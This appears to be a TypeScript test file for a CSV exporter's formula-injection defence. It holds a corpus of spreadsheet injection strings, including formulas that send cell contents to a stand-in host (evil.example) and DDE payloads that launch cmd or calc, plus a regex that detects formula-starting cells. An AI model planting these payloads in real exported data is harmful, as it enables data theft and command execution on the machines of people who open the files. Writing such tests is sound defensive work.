import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { byteOrderMark, defuseCell, writeCsvLine } from './csv.ts';

/** Strings that a spreadsheet would run, by class; made here. */
const injections: readonly string[] = [
  // A formula, a link that takes cells along, a picture that calls home, a program by DDE.
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '=IMAGE("http://evil.example/?"&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  `=cmd|'/C calc'!A0`,
  `=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''`,
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  // Each sign that begins one.
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '==1+1',
  '+-+-1',
  // Signs of another width or form.
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\ufe66SUM(1)',
  '\ufe62cmd',
  '\u22121+1',
  '\u207a1',
  // What is dropped before the sign is looked at.
  ' =1+1',
  '   \t=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '\v=1+1',
  // Behind quotes, which end the cell where another quote is the mark.
  '"=1+1',
  '""=1+1',
  '"","=1+1',
  `'=1+1`,
  '\u201c=1+1',
  '`=1+1',
  // Behind what separates cells or lines, in this or another country's form.
  'x,=1+1',
  'x;=1+1',
  'x; =1+1',
  'x\t=1+1',
  'x|=1+1',
  'x\n=1+1',
  'x\r=1+1',
  'x\u2028=1+1',
  'x";=cmd|\'/C calc\'!A0;"',
  'Mozilla/5.0 (X11; =1+1) Chrome/140',
  // Line ends and tabs at the beginning are taken for formulas by older programs.
  '\tx',
  '\rx',
  '\nx',
];

/** How a spreadsheet reads one line: quoted cells, doubled quotes. A second reader, written for this test. */
function readLine(line: string, separator: string): readonly string[] {
  const cells: string[] = [];
  let at = 0;
  while (at <= line.length) {
    if (line[at] === '"') {
      let text = '';
      at += 1;
      while (at < line.length && !(line[at] === '"' && line[at + 1] !== '"')) {
        if (line[at] === '"') at += 1;
        text += line[at];
        at += 1;
      }
      at += 1;
      // What stands between the closing quote and the separator belongs to the cell as it is.
      while (at < line.length && line[at] !== separator) {
        text += line[at];
        at += 1;
      }
      cells.push(text);
    } else {
      const end = line.indexOf(separator, at);
      cells.push(line.slice(at, end < 0 ? line.length : end));
      at = end < 0 ? line.length : end;
    }
    at += 1;
  }
  return cells;
}

const runs = /^[\s\p{Cf}\p{Cc}"\u2018\u2019\u201c\u201d`´]*[=+\-@\u2212\uff1d\uff0b\uff0d\uff20\ufe62\ufe66\u207a]/u;

describe('a cell', () => {
  it('has a corpus of at least forty', () => {
    expect(new Set(injections).size).toBeGreaterThanOrEqual(40);
  });

  it.each(injections.map((text) => [JSON.stringify(text), text]))(
    'of %s is no formula, wherever a line is cut',
    (_, text) => {
      const line = writeCsvLine(['ada', text, 'last']).slice(0, -2);
      expect(readLine(line, ',')).toEqual(['ada', defuseCell(text), 'last']);
      for (const separator of [',', ';', '\t', '|'])
        for (const part of line.split(/[\r\n\u2028]/))
          for (const cell of readLine(part, separator)) expect(cell).not.toMatch(runs);
    },
  );

  it.each([
    '',
    'ada@clinic.example',
    'Ada Lovelace-King',
    '192.0.2.7',
    '2001:db8::7',
    '2026-11-20T14:03:09.000Z',
    'Firefox on Windows',
    'O’Brien (ob@clinic.example)',
    '李小龍 (bruce@clinic.example)',
    'a = b',
    '018f0000-0000-7000-8000-00000000000a',
    'not yet',
  ])('of %j stays as it is', (text) => {
    expect(defuseCell(text)).toBe(text);
  });

  it('is no formula whatever it holds, and loses nothing but gains apostrophes', () => {
    const piece = fc.constantFrom(...'=+-@\t\r\n;,|"\' ab1', '\uff1d', '\u200b', '\ufeff', '\u2028');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('');
        const safe = defuseCell(text);
        expect(safe.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
        for (const part of safe.split(/[,;|\t\r\n\u2028]/)) expect(part).not.toMatch(runs);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('a line', () => {
  it('is one after RFC 4180', () => {
    expect(writeCsvLine(['a', 'b "quoted", and', '', 'x\ny'])).toBe('"a","b ""quoted"", and","","x\ny"\r\n');
    expect(writeCsvLine([])).toBe('\r\n');
  });

  it('comes after the mark of UTF-8', () => {
    expect([...Buffer.from(byteOrderMark)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
